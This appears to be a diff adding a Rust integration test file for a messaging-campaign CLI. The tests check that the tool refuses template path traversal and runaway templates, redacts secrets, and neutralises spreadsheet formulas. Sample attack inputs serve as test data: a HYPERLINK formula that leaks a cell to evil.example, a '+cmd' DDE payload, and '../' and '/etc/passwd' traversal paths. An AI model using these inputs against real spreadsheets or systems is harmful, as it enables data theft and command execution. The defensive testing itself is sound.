@@ -1,0 +1,760 @@
+//! Input that lies, through the real binary: templates that reach outside their folder or run
+//! away, texts over a channel's limits, secrets echoed back by the API, spreadsheet formulas in
+//! names, errors and replies, and an API that cannot be reached.
+
+mod common;
+
+use std::os::unix::process::CommandExt;
+use std::process::Command;
+use std::sync::Arc;
+
+use common::*;
+
+/// A campaign of one text item from `template` (a file in the templates folder).
+fn template_campaign(url: &str, template: &str) -> String {
+    campaign_yaml(
+        url,
+        &format!("  - type: text\n    template: {template}\n"),
+        "",
+    )
+}
+
+const CONTACTS: &str = "customer_id,first_name,phone\nC1,Ana,5511999990001\nC2,Bo,5511999990002\n";
+
+/// `cosmocast check campaign.yaml`: its exit code and stderr.
+fn check(f: &Fixture) -> (Option<i32>, String) {
+    let out = f.cmd().args(["check", "campaign.yaml"]).output().unwrap();
+    (out.status.code(), stderr_of(&out))
+}
+
+#[test]
+fn templates_in_the_folder_extend_include_and_import_one_another() {
+    let server = TestServer::sent_ok();
+    let f = Fixture::new();
+    f.write("contacts.csv", CONTACTS)
+        .write("campaign.yaml", &template_campaign(&server.url(), "main.txt.j2"))
+        .write(
+            "templates/main.txt.j2",
+            "{% extends \"layout.j2\" %}{% block body %}{% import \"macros.j2\" as m %}{{ m.greet(first_name) }}{% endblock %}",
+        )
+        .write(
+            "templates/layout.j2",
+            "Olá! {% block body %}{% endblock %} {% include \"parts/footer.j2\" %}",
+        )
+        .write(
+            "templates/macros.j2",
+            "{% macro greet(name) %}Hi {{ name | upper }}{% endmacro %}",
+        )
+        .write("templates/parts/footer.j2", "— a loja");
+    let out = f.run();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
+    let mut texts: Vec<String> = server
+        .requests()
+        .iter()
+        .map(|r| {
+            r.body["message"][0]["data"]["text"]
+                .as_str()
+                .unwrap()
+                .to_string()
+        })
+        .collect();
+    texts.sort();
+    assert_eq!(texts, ["Olá! Hi ANA — a loja", "Olá! Hi BO — a loja"]);
+}
+
+#[test]
+fn a_template_outside_the_folder_is_refused_naming_the_file_and_never_read() {
+    const SECRET: &str = "TOP-SECRET-CONTENT";
+    let server = TestServer::sent_ok();
+    // (template named by the campaign, files to write, symlinks to make, what check must say)
+    type Case<'a> = (
+        &'a str,
+        &'a [(&'a str, &'a str)],
+        &'a [(&'a str, &'a str)],
+        &'a str,
+    );
+    let cases: &[Case] = &[
+        (
+            "link.j2",
+            &[],
+            &[("templates/link.j2", "outside/secret.txt")],
+            "campaign.yaml:17: template \"link.j2\" is a symbolic link leading out of the templates folder — copy the file into `templates/` instead of linking to it",
+        ),
+        (
+            "main.j2",
+            &[(
+                "templates/main.j2",
+                "Hi\n{% include \"../outside/secret.txt\" %}",
+            )],
+            &[],
+            "templates/main.j2:2: `{% include %}`: template \"../outside/secret.txt\" leads out of the templates folder with `..` — put the file in `templates/` and name it relative to that folder (e.g. `renewal.txt.j2`)",
+        ),
+        (
+            "main.j2",
+            &[("templates/main.j2", "{% from 'parts/link.j2' import x %}Hi")],
+            &[("templates/parts/link.j2", "outside/secret.txt")],
+            "templates/main.j2:1: `{% from %}`: template \"parts/link.j2\" is a symbolic link leading out of the templates folder",
+        ),
+        (
+            "main.j2",
+            &[("templates/main.j2", "{% extends '/etc/passwd' %}")],
+            &[],
+            "templates/main.j2:1: `{% extends %}`: template \"/etc/passwd\" is an absolute path; templates are read from the templates folder only",
+        ),
+        (
+            // A name computed from a cell is held to the same rule when the row is rendered.
+            "main.j2",
+            &[
+                (
+                    "contacts.csv",
+                    "customer_id,first_name,phone,part\nC1,Ana,5511999990001,../outside/secret.txt\n",
+                ),
+                ("templates/main.j2", "{% include part %}"),
+            ],
+            &[],
+            "contacts.csv:2: row 1: template error: template \"../outside/secret.txt\" leads out of the templates folder with `..` (templates/main.j2:1) — put the file in `templates/`",
+        ),
+    ];
+    for (template, files, links, expected) in cases {
+        let f = Fixture::new();
+        f.write("contacts.csv", CONTACTS)
+            .write("campaign.yaml", &template_campaign(&server.url(), template))
+            .write("outside/secret.txt", SECRET);
+        for (name, text) in *files {
+            f.write(name, text);
+        }
+        for (link, target) in *links {
+            std::fs::create_dir_all(f.path(link).parent().unwrap()).unwrap();
+            std::os::unix::fs::symlink(f.path(target), f.path(link)).unwrap();
+        }
+        let (code, err) = check(&f);
+        assert_eq!(code, Some(1), "{template}: {err}");
+        assert!(err.contains(expected), "expected {expected:?} in:\n{err}");
+        let run = f.run();
+        assert_eq!(run.status.code(), Some(1), "{}", stderr_of(&run));
+        for text in [err, stderr_of(&run), stdout_of(&run)] {
+            assert!(!text.contains(SECRET), "{text}");
+        }
+    }
+    assert_eq!(server.count(), 0);
+}
+
+/// Runs `cosmocast check` with the address space capped at `bytes`: a template that grew its
+/// text without bound would fail to allocate and abort instead of exiting 1.
+fn check_within_memory(f: &Fixture, bytes: u64) -> std::process::Output {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cosmocast"));
+    cmd.current_dir(f.dir.path())
+        .env("COSMOBOTS_TOKEN", TOKEN)
+        .env("COSMOBOTS_CHANNEL_ID", CHANNEL)
+        .args(["check", "campaign.yaml"]);
+    let limit = libc::rlimit {
+        rlim_cur: bytes,
+        rlim_max: bytes,
+    };
+    // SAFETY: setrlimit is async-signal-safe, and nothing else runs between fork and exec.
+    unsafe {
+        cmd.pre_exec(move || match libc::setrlimit(libc::RLIMIT_AS, &limit) {
+            0 => Ok(()),
+            _ => Err(std::io::Error::last_os_error()),
+        });
+    }
+    // Files, not pipes: nothing blocks on a full pipe while the test waits.
+    let file = |name: &str| std::fs::File::create(f.path(name)).unwrap();
+    let mut child = cmd
+        .stdout(file("check.out"))
+        .stderr(file("check.err"))
+        .spawn()
+        .unwrap();
+    // A template that loops without a budget never ends: the test fails instead of waiting.
+    let started = std::time::Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        if started.elapsed() > std::time::Duration::from_secs(60) {
+            let _ = child.kill();
+            let _ = child.wait();
+            panic!("check did not finish within a minute");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    };
+    std::process::Output {
+        status,
+        stdout: std::fs::read(f.path("check.out")).unwrap(),
+        stderr: std::fs::read(f.path("check.err")).unwrap(),
+    }
+}
+
+#[test]
+fn a_runaway_template_stops_check_naming_the_template_and_row_in_bounded_memory() {
+    let server = TestServer::sent_ok();
+    let mut csv = String::from("customer_id,first_name,phone\n");
+    for i in 1..=5000 {
+        csv.push_str(&format!("C{i},Name{i},55119{i:08}\n"));
+    }
+    for (name, template) in [
+        (
+            "nested loops",
+            "{% for i in range(100000) %}{% for j in range(100000) %}.{% endfor %}{% endfor %}",
+        ),
+        (
+            "text doubling in a loop",
+            "{% set s = first_name %}{% for i in range(100000) %}{% set s = s ~ s %}{% endfor %}{{ s }}",
+        ),
+    ] {
+        let f = Fixture::new();
+        f.write("contacts.csv", &csv)
+            .write(
+                "campaign.yaml",
+                &template_campaign(&server.url(), "runaway.txt.j2"),
+            )
+            .write("templates/runaway.txt.j2", &format!("Hello\n{template}\n"));
+        let out = check_within_memory(&f, 512 << 20);
+        let err = stderr_of(&out);
+        assert_eq!(out.status.code(), Some(1), "{name}: {err}");
+        assert!(
+            err.starts_with("contacts.csv:2: row 1: template templates/runaway.txt.j2:2 ran out of its rendering budget (200000 steps)"),
+            "{name}: {err}"
+        );
+        assert!(
+            err.contains("contacts.csv:3: row 2: template templates/runaway.txt.j2 was not rendered: it ran out of its rendering budget at row 1"),
+            "{name}: {err}"
+        );
+        assert!(err.contains("(5000 problems in all"), "{name}: {err}");
+    }
+    assert_eq!(server.count(), 0);
+}
+
+#[test]
+fn a_text_over_64_kib_is_refused_naming_the_template_row_and_limit() {
+    let server = TestServer::sent_ok();
+    let f = Fixture::new();
+    f.write("contacts.csv", CONTACTS).write(
+        "campaign.yaml",
+        &campaign_yaml(
+            &server.url(),
+            "  - type: text\n    text: \"{{ first_name * 40000 }}\"\n",
+            "",
+        ),
+    );
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    // Ana is 120,000 bytes, over the bound; Bo's 80,000 bytes too.
+    assert!(
+        err.contains("contacts.csv:2: row 1: template `messages[0].text` (campaign.yaml:17) rendered 120000 bytes, over the 64 KiB one text may hold"),
+        "{err}"
+    );
+    assert!(err.contains("contacts.csv:3: row 2: template `messages[0].text` (campaign.yaml:17) rendered 80000 bytes"), "{err}");
+    assert_eq!(server.count(), 0);
+}
+
+#[test]
+fn check_holds_texts_and_whatsapp_buttons_to_the_channel_limits() {
+    let server = TestServer::sent_ok();
+    let f = Fixture::new();
+    // Row 1 stays within every limit, counted in characters (ç is two bytes); row 2 is over.
+    f.write(
+        "contacts.csv",
+        &format!(
+            "customer_id,first_name,phone,body,label\nC1,Ana,5511999990001,{},Sim\nC2,Bo,5511999990002,{},Quero renovar o plano\n",
+            "ç".repeat(4096),
+            "ç".repeat(4096)
+        ),
+    )
+    .write(
+        "campaign.yaml",
+        &campaign_yaml(
+            &server.url(),
+            "  - type: text\n    text: \"{{ body }}{% if row_number == 2 %}!{% endif %}\"\n  - type: buttons\n    text: \"{{ body[:1024] }}{% if row_number == 2 %}!{% endif %}\"\n    buttons:\n      - { title: \"{{ label }}\", type: payload, value: \"yes\" }\n      - { title: \"No\", type: payload, value: \"{{ 'v' * (255 + row_number) }}\" }\n      - { title: \"Later\", type: payload, value: \"later\" }\n",
+            "",
+        ),
+    );
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    let row2: Vec<&str> = err.lines().filter(|l| l.contains("row 2:")).collect();
+    assert_eq!(
+        row2,
+        [
+            "contacts.csv:3: row 2: `message[0].data.text` is 4097 characters long; on any channel a text may hold at most 4096 — fix the cell or the template that fills it",
+            "contacts.csv:3: row 2: `message[1].data.text` is 1025 characters long; on WhatsApp a buttons message's text may hold at most 1024 — fix the cell or the template that fills it",
+            "contacts.csv:3: row 2: `message[1].data.buttons[0].title` is 21 characters long; on WhatsApp a button title may hold at most 20 — fix the cell or the template that fills it",
+            "contacts.csv:3: row 2: `message[1].data.buttons[1].value` is 257 characters long; on WhatsApp a button value may hold at most 256 — fix the cell or the template that fills it",
+        ],
+        "{err}"
+    );
+    assert!(!err.contains("row 1:"), "{err}");
+
+    // A fourth button is one too many on WhatsApp, and fine on another channel.
+    let four = "  - type: buttons\n    text: Renew?\n    buttons:\n      - { title: A, type: payload, value: a }\n      - { title: B, type: payload, value: b }\n      - { title: C, type: payload, value: c }\n      - { title: D, type: payload, value: d }\n";
+    f.write("contacts.csv", CONTACTS)
+        .write("campaign.yaml", &campaign_yaml(&server.url(), four, ""));
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.contains("contacts.csv:2: row 1: `message[0].data.buttons` has 4 buttons; on WhatsApp a buttons message may hold at most 3"),
+        "{err}"
+    );
+    f.write(
+        "campaign.yaml",
+        &campaign_yaml(&server.url(), four, "").replace("channel: whatsapp", "channel: rcs"),
+    );
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(0), "{err}");
+    assert_eq!(server.count(), 0);
+}
+
+#[test]
+fn look_alikes_are_named_in_where_and_in_an_included_template() {
+    let server = TestServer::sent_ok();
+    let f = Fixture::new();
+    f.write(
+        "contacts.csv",
+        "customer_id,first_name,phone,opt_in\nC1,Ana,5511999990001,yes\n",
+    )
+    .write(
+        "campaign.yaml",
+        &template_campaign(&server.url(), "main.j2").replace(
+            "  file: contacts.csv\n",
+            "  file: contacts.csv\n  where: \"opt_in == ‘yes’\"\n",
+        ),
+    )
+    .write(
+        "templates/main.j2",
+        "Olá “{{ first_name }}”! {% include 'footer.j2' %}",
+    )
+    .write("templates/footer.j2", "Até {{ first_name\u{00A0}}}");
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.starts_with("campaign.yaml:11:21: U+2018 LEFT SINGLE QUOTATION MARK ‘ looks like `'` but is not read as one"),
+        "{err}"
+    );
+    assert!(
+        err.contains("campaign.yaml:11:25: U+2019 RIGHT SINGLE QUOTATION MARK ’"),
+        "{err}"
+    );
+    // Once the campaign file is fixed, the templates: prose quotes are fine, a no-break space
+    // in a tag of the included template is not.
+    f.write(
+        "campaign.yaml",
+        &template_campaign(&server.url(), "main.j2").replace(
+            "  file: contacts.csv\n",
+            "  file: contacts.csv\n  where: \"opt_in == 'yes'\"\n",
+        ),
+    );
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.starts_with("templates/footer.j2:1:18: U+00A0 NO-BREAK SPACE looks like a plain space but is not read as one"),
+        "{err}"
+    );
+    assert!(!err.contains("main.j2"), "{err}");
+    assert_eq!(server.count(), 0);
+}
+
+#[test]
+fn a_url_that_does_not_parse_is_shown_without_its_password() {
+    let f = Fixture::new();
+    f.write("contacts.csv", CONTACTS).write(
+        "campaign.yaml",
+        &campaign_yaml(
+            "\"https://marketing:hunter2@api.cosmobots.io:99999/messages/v1/send\"",
+            "  - type: text\n    text: Hi\n",
+            "",
+        ),
+    );
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.contains("campaign.yaml:4: \"https://***@api.cosmobots.io:99999/messages/v1/send\" is not an http(s) URL"),
+        "{err}"
+    );
+    assert!(
+        !err.contains("hunter2") && !err.contains("marketing"),
+        "{err}"
+    );
+}
+
+/// Every text a user or a tool may read after a run: the run's own output, `status` (plain and
+/// JSON), `export` (CSV and JSON lines), and the ledger's files byte for byte.
+fn everything_readable(f: &Fixture, run: &std::process::Output) -> Vec<(String, Vec<u8>)> {
+    let mut out = vec![
+        ("run stdout".to_string(), run.stdout.clone()),
+        ("run stderr".to_string(), run.stderr.clone()),
+    ];
+    for args in [
+        &["status", "campaign.yaml"][..],
+        &["status", "campaign.yaml", "--json"],
+        &["export", "campaign.yaml"],
+        &["export", "campaign.yaml", "--format", "jsonl"],
+    ] {
+        let o = f.cmd().args(args).output().unwrap();
+        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr_of(&o));
+        out.push((format!("{args:?} stdout"), o.stdout));
+        out.push((format!("{args:?} stderr"), o.stderr));
+    }
+    for entry in std::fs::read_dir(f.dir.path()).unwrap() {
+        let path = entry.unwrap().path();
+        let name = path.file_name().unwrap().to_string_lossy().into_owned();
+        if name.starts_with("cosmocast.sqlite") {
+            out.push((name, std::fs::read(&path).unwrap()));
+        }
+    }
+    out
+}
+
+fn holds(bytes: &[u8], needle: &str) -> bool {
+    bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
+}
+
+#[test]
+fn an_api_error_echoing_the_token_and_channel_id_is_stored_and_printed_redacted() {
+    let server = TestServer::start(Arc::new(|n, body| {
+        if n == 0 {
+            return answer_sent(n, body);
+        }
+        (
+            400,
+            format!(
+                "{{\"error\": \"bad token={TOKEN} for channel_id={CHANNEL}\", \"headers\": {{\"token\": \"{TOKEN}\"}}}}"
+            ),
+        )
+    }));
+    let f = Fixture::new();
+    f.write("contacts.csv", CONTACTS).write(
+        "campaign.yaml",
+        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", ""),
+    );
+    let run = f.run();
+    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));
+    assert_eq!(server.count(), 2);
+    let texts = everything_readable(&f, &run);
+    assert!(texts.iter().any(|(name, _)| name == "cosmocast.sqlite"));
+    for (name, bytes) in &texts {
+        assert!(!holds(bytes, TOKEN), "{name} holds the token");
+        assert!(!holds(bytes, CHANNEL), "{name} holds the channel id");
+    }
+    // The error itself is kept, with the secrets replaced.
+    let (_, export) = texts
+        .iter()
+        .find(|(name, _)| name.contains("jsonl") && name.ends_with("stdout"))
+        .unwrap();
+    let export = String::from_utf8_lossy(export);
+    assert!(
+        export.contains("bad token=<redacted> for channel_id=<redacted>"),
+        "{export}"
+    );
+}
+
+/// `cosmocast listen` on a free port over the fixture's ledger; killed on drop.
+struct Listener {
+    child: std::process::Child,
+    url: String,
+}
+
+impl Listener {
+    fn start(f: &Fixture, secret: &str) -> Listener {
+        use std::io::BufRead;
+        let ledger = f.ledger();
+        let mut child = Command::new(env!("CARGO_BIN_EXE_cosmocast"))
+            .args(["listen", "--addr", "127.0.0.1:0", "--ledger"])
+            .arg(&ledger)
+            .current_dir(f.dir.path())
+            .env("COSMOCAST_WEBHOOK_SECRET", secret)
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut lines = std::io::BufReader::new(child.stderr.take().unwrap()).lines();
+        let first = lines.next().unwrap().unwrap();
+        let url = first
+            .split_whitespace()
+            .find(|w| w.starts_with("http://"))
+            .unwrap_or_else(|| panic!("no URL in {first:?}"))
+            .trim_end_matches(',')
+            .to_string();
+        // Keep reading, so that the listener never blocks on a full pipe.
+        std::thread::spawn(move || lines.map_while(Result::ok).for_each(drop));
+        Listener { child, url }
+    }
+}
+
+impl Drop for Listener {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Names, an API error and replies that a spreadsheet would run as formulas.
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
+const CMD: &str = "+cmd|' /C calc'!A0";
+const SUM: &str = "@SUM(1+1)";
+const MINUS: &str = "-2+3";
+const API_ERROR: &str = "=1+1 the window is closed";
+
+#[test]
+fn formulas_from_names_errors_and_replies_are_neutralised_in_csv_and_kept_in_json_lines() {
+    let server = TestServer::start(Arc::new(|n, body| {
+        if body["contact"]["first_name"] == MINUS {
+            let error = serde_json::json!({"status": "error", "message": API_ERROR});
+            return (200, error.to_string());
+        }
+        answer_sent(n, body)
+    }));
+    let f = Fixture::new();
+    let mut csv = String::from("customer_id,first_name,phone\n");
+    for (i, name) in [HYPERLINK, CMD, SUM, MINUS, "Ana"].iter().enumerate() {
+        let quoted = name.replace('"', "\"\"");
+        csv.push_str(&format!("C{i},\"{quoted}\",551199999000{i}\n"));
+    }
+    f.write("contacts.csv", &csv).write(
+        "campaign.yaml",
+        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", "").replace(
+            "  file: contacts.csv\n",
+            "  file: contacts.csv\n  key: \"{{ first_name }}\"\n",
+        ),
+    );
+    let run = f.run();
+    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));
+
+    // Replies from Ana (a formula) and from the HYPERLINK contact (a negative sum).
+    let secret = "a-webhook-secret-for-the-formula-test";
+    let listener = Listener::start(&f, secret);
+    let webhook = format!(
+        "{}/webhook/{secret}",
+        listener.url.split("/webhook").next().unwrap()
+    );
+    for (phone, text) in [("5511999990004", HYPERLINK), ("5511999990000", MINUS)] {
+        let body = serde_json::json!({
+            "contact": {"mobile_phone": phone},
+            "message": [{"type": "text", "data": {"text": text}}],
+        });
+        assert_eq!(post_status(&webhook, &body.to_string()), 200);
+    }
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+    while f.sql("SELECT COUNT(*) FROM replies")[0][0] != "2" {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the replies were not stored"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    drop(listener);
+
+    let csv_of = |args: &[&str]| -> Vec<csv::StringRecord> {
+        let o = f.cmd().args(args).output().unwrap();
+        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr_of(&o));
+        csv::Reader::from_reader(o.stdout.as_slice())
+            .records()
+            .map(Result::unwrap)
+            .collect()
+    };
+    let jsonl_of = |args: &[&str]| -> Vec<serde_json::Value> {
+        let o = f.cmd().args(args).output().unwrap();
+        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr_of(&o));
+        stdout_of(&o)
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    };
+    let neutral = |s: &str| format!("'{s}");
+
+    // export: key (column 0), error (9), last_reply (12).
+    let rows = csv_of(&["export", "campaign.yaml"]);
+    let cells = |col: usize| -> Vec<String> { rows.iter().map(|r| r[col].to_string()).collect() };
+    assert_eq!(
+        cells(0),
+        [
+            neutral(HYPERLINK),
+            neutral(CMD),
+            neutral(SUM),
+            neutral(MINUS),
+            "Ana".into()
+        ]
+    );
+    assert_eq!(cells(9)[3], neutral(API_ERROR));
+    assert_eq!(cells(12)[0], neutral(MINUS));
+    assert_eq!(cells(12)[4], neutral(HYPERLINK));
+    let lines = jsonl_of(&["export", "campaign.yaml", "--format", "jsonl"]);
+    let keys: Vec<&str> = lines.iter().map(|l| l["key"].as_str().unwrap()).collect();
+    assert_eq!(keys, [HYPERLINK, CMD, SUM, MINUS, "Ana"]);
+    assert_eq!(lines[3]["error"], API_ERROR);
+    assert_eq!(lines[0]["last_reply"], MINUS);
+    assert_eq!(lines[4]["last_reply"], HYPERLINK);
+
+    // replies: key (column 1), text (5).
+    let mut replies: Vec<(String, String)> = csv_of(&["replies", "campaign.yaml"])
+        .iter()
+        .map(|r| (r[1].to_string(), r[5].to_string()))
+        .collect();
+    replies.sort();
+    assert_eq!(
+        replies,
+        [
+            (neutral(HYPERLINK), neutral(MINUS)),
+            ("Ana".to_string(), neutral(HYPERLINK)),
+        ]
+    );
+    let mut replies: Vec<(String, String)> =
+        jsonl_of(&["replies", "campaign.yaml", "--format", "jsonl"])
+            .iter()
+            .map(|r| {
+                (
+                    r["contact_key"].as_str().unwrap().to_string(),
+                    r["text"].as_str().unwrap().to_string(),
+                )
+            })
+            .collect();
+    replies.sort();
+    assert_eq!(
+        replies,
+        [
+            (HYPERLINK.to_string(), MINUS.to_string()),
+            ("Ana".to_string(), HYPERLINK.to_string()),
+        ]
+    );
+}
+
+/// A loopback URL on which nothing listens: a port taken from the system, then let go.
+fn closed_port_url() -> String {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = listener.local_addr().unwrap();
+    drop(listener);
+    format!("http://{addr}/messages/v1/send")
+}
+
+/// The run's command, without the proxies the machine may name (a proxy would answer instead).
+fn run_without_proxies(f: &Fixture, extra: &[&str]) -> std::process::Output {
+    let mut c = f.run_cmd();
+    for var in [
+        "HTTPS_PROXY",
+        "https_proxy",
+        "HTTP_PROXY",
+        "http_proxy",
+        "ALL_PROXY",
+        "all_proxy",
+    ] {
+        c.env_remove(var);
+    }
+    c.args(extra).output().unwrap()
+}
+
+/// The contacts the ledger holds in any state a request leads to.
+fn attempted(f: &Fixture) -> Vec<Vec<String>> {
+    f.sql("SELECT key, status FROM contacts WHERE status IN ('sending', 'sent', 'queued', 'failed', 'unknown')")
+}
+
+#[test]
+fn an_api_that_refuses_every_connection_stops_the_run_and_sends_nobody_twice_later() {
+    let url = closed_port_url();
+    let f = sandbox::fixture(&url, 19, "");
+    let out = run_without_proxies(&f, &[]);
+    let err = stderr_of(&out);
+    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert!(err.contains("refused") && err.contains(&url), "{err}");
+    assert!(attempted(&f).is_empty(), "{:?}", attempted(&f));
+    // The ledger holds no contact at all, and the run with why it stopped.
+    assert_eq!(f.sql("SELECT COUNT(*) FROM contacts")[0][0], "0");
+    assert_eq!(
+        f.sql("SELECT stopped, exit_code, requests FROM runs"),
+        [["unreachable", "1", "0"]]
+    );
+
+    // Once the API answers, every contact is sent, once.
+    let server = TestServer::sent_ok();
+    f.write(
+        "campaign.yaml",
+        &std::fs::read_to_string(f.campaign())
+            .unwrap()
+            .replace(&url, &server.url()),
+    );
+    let out = run_without_proxies(&f, &["--accept-change"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
+    let mut keys: Vec<String> = server
+        .requests()
+        .iter()
+        .map(|r| {
+            r.body["contact"]["external_id"]
+                .as_str()
+                .unwrap()
+                .to_string()
+        })
+        .collect();
+    keys.sort();
+    let mut expected: Vec<String> = (1..=19).map(|i| format!("K{i}")).collect();
+    expected.sort();
+    assert_eq!(keys, expected);
+    assert_eq!(
+        f.sql("SELECT COUNT(*) FROM contacts WHERE status = 'sent'")[0][0],
+        "19"
+    );
+}
+
+#[test]
+fn an_api_whose_name_does_not_resolve_stops_the_run_naming_the_cause() {
+    // `.invalid` never resolves (RFC 2606); the name fails before any TLS.
+    let url = "https://cosmocast-test.invalid/messages/v1/send";
+    let f = sandbox::fixture(url, 19, "");
+    let out = run_without_proxies(&f, &[]);
+    let err = stderr_of(&out);
+    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert!(
+        err.contains(&format!(
+            "cannot reach the API at {url} (dns: cannot resolve cosmocast-test.invalid"
+        )),
+        "{err}"
+    );
+    assert!(attempted(&f).is_empty(), "{:?}", attempted(&f));
+}
+
+#[test]
+fn plain_progress_lines_name_the_most_frequent_error_while_failures_occur() {
+    let server = TestServer::start(Arc::new(|_, _| {
+        // Slow enough that the run lasts a few progress lines.
+        std::thread::sleep(std::time::Duration::from_millis(40));
+        (400, "{\"error\": \"the channel is paused\"}".to_string())
+    }));
+    let f = sandbox::fixture(&server.url(), 40, "send:\n  concurrency: 1\n");
+    let out = f
+        .cmd()
+        .env("COSMOCAST_PROGRESS_EVERY_MS", "200")
+        .args(["run", "campaign.yaml", "--progress", "plain"])
+        .output()
+        .unwrap();
+    let err = stderr_of(&out);
+    assert_eq!(out.status.code(), Some(3), "{err}");
+    let named: Vec<&str> = err
+        .lines()
+        .filter(|l| l.contains("; most frequent error: http_400 ×"))
+        .collect();
+    assert!(!named.is_empty(), "{err}");
+    assert!(
+        named.iter().all(|l| l.contains("the channel is paused")),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_template_both_included_and_named_by_the_campaign_is_checked_against_the_columns() {
+    let server = TestServer::sent_ok();
+    let f = Fixture::new();
+    f.write("contacts.csv", CONTACTS)
+        .write(
+            "campaign.yaml",
+            &campaign_yaml(
+                &server.url(),
+                "  - type: text\n    template: main.j2\n  - type: text\n    template: footer.j2\n",
+                "",
+            ),
+        )
+        .write("templates/main.j2", "Hi {% include 'footer.j2' %}")
+        .write("templates/footer.j2", "\nYour {{ plan }} plan");
+    let (code, err) = check(&f);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.starts_with("templates/footer.j2:2: the template uses `plan`, which is not a column of the contact file"),
+        "{err}"
+    );
+    assert_eq!(err.matches("footer.j2").count(), 1, "{err}");
+}
